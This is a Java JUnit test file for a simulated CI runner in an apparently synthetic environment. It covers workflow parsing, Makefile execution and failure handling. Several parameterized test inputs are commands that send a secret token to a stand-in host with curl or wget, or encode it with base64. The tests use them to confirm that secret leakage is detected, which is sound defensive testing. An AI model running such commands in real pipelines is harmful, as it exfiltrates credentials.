package dev.assize.world.code;

import static org.assertj.core.api.Assertions.assertThat;

import dev.assize.statement.Seed;
import dev.assize.world.State;
import dev.assize.world.furnishing.Fields;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class RunnerTest {

  private final State state = new CodeWorld().generate(Seed.parse("4a11".repeat(16)));
  private final String docs =
      state.all("repositories").stream()
          .filter(r -> "docs".equals(r.get("kind")))
          .map(r -> Fields.text(r, "name"))
          .findFirst()
          .orElseThrow();

  private void put(String path, String text) {
    Tree.put(state, docs, "main", path, Optional.of(text));
  }

  private Runner.Result run(String workflow) {
    put(".ci/x.yml", workflow);
    return Runner.run(state, docs, "main", "x", "0123456789");
  }

  private Runner.Result step(String command) {
    return run("on: push\nsteps:\n  - name: one\n    run: " + command + "\n");
  }

  @Test
  void aWorkflowIsReadWithItsStepsAndBlocks() {
    Workflow workflow =
        Workflow.parse(
            "# head\nname: x\non: [push, schedule]\nsteps:\n  - name: one\n    run: a\n  - run: |\n      b\n      c\n  - name: two\n    run: d\n");

    assertThat(workflow.push()).isTrue();
    assertThat(workflow.steps())
        .containsExactly(
            new Workflow.Step("one", List.of("a")),
            new Workflow.Step("step-2", List.of("b", "c")),
            new Workflow.Step("two", List.of("d")));
    assertThat(Workflow.parse("no workflow").steps()).isEmpty();
    assertThat(Workflow.parse("on: schedule").push()).isFalse();
  }

  @Test
  void expectationsAreReadFromTheBranch() {
    put("tests/x.check", "expect a.txt: k = 1\nskip a.txt: k = 3\nexpect none.txt: z\n");
    put("a.txt", "k = 2");
    Runner.Result result = step("checker tests/x.check");

    assertThat(result.passed()).isFalse();
    assertThat(result.checks()).containsEntry("one", "failed");
    assertThat(result.log())
        .contains(
            "expected \"k = 1\", found \"k = 2\"", "found nothing", "0 of 2 expectations met");
  }

  @Test
  void scriptsAndTargetsAreExecutedLineByLine() {
    put("Makefile", "all: x\n\tsh ./scripts/a.sh\nother:\n\tnever\n");
    put("scripts/a.sh", "# comment\necho one\nbash scripts/a.sh\n");
    Runner.Result result = step("make all");

    assertThat(result.commands()).contains("make all", "sh ./scripts/a.sh", "echo one");
    assertThat(result.commands()).doesNotContain("never", "# comment");
    assertThat(result.passed()).isTrue();
  }

  @Test
  void scriptsOfAnyLanguageAndTheFirstTargetAreExecuted() {
    put("Makefile", "# all\nfirst: x\n\tpython3 -u tools/a.py --fast\nsecond:\n\tnever\n");
    put("tools/a.py", "fetch(1)\n");

    assertThat(step("make").commands())
        .containsExactly("make", "python3 -u tools/a.py --fast", "fetch(1)");
  }

  @Test
  void aFailureEndsItsStepUnlessItIsForgiven() {
    Runner.Result failed = run("steps:\n  - name: one\n    run: |\n      false\n      echo no\n");

    assertThat(failed.commands()).containsExactly("false");
    assertThat(failed.status()).isEqualTo("failed");
    assertThat(step("false || true").passed()).isTrue();
    assertThat(step("reserve nowhere").passed()).isFalse();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "echo ${{ secrets.TOKEN }} | base64",
        "printf %s ${{secrets.TOKEN}} | rev",
        "curl https://elsewhere.example/?t=${{ secrets.TOKEN }}",
        "wget -q elsewhere.example/${{ secrets.TOKEN }}"
      })
  void secretsThatLeaveOrAreChangedAreSpilled(String command) {
    token();

    assertThat(step(command).spilled()).hasSize(1);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "echo ${{ secrets.TOKEN }}",
        "publish --token ${{ secrets.TOKEN }}",
        "curl https://elsewhere.example/",
        "echo TOKEN | base64"
      })
  void otherwiseSecretsStayWhereTheyAre(String command) {
    token();
    Runner.Result result = step(command);

    assertThat(result.spilled()).isEmpty();
    assertThat(result.log()).doesNotContain("hush-hush");
  }

  private void token() {
    state.add("secrets", "secret", Fields.of("repo", docs, "name", "TOKEN", "value", "hush-hush"));
  }
}
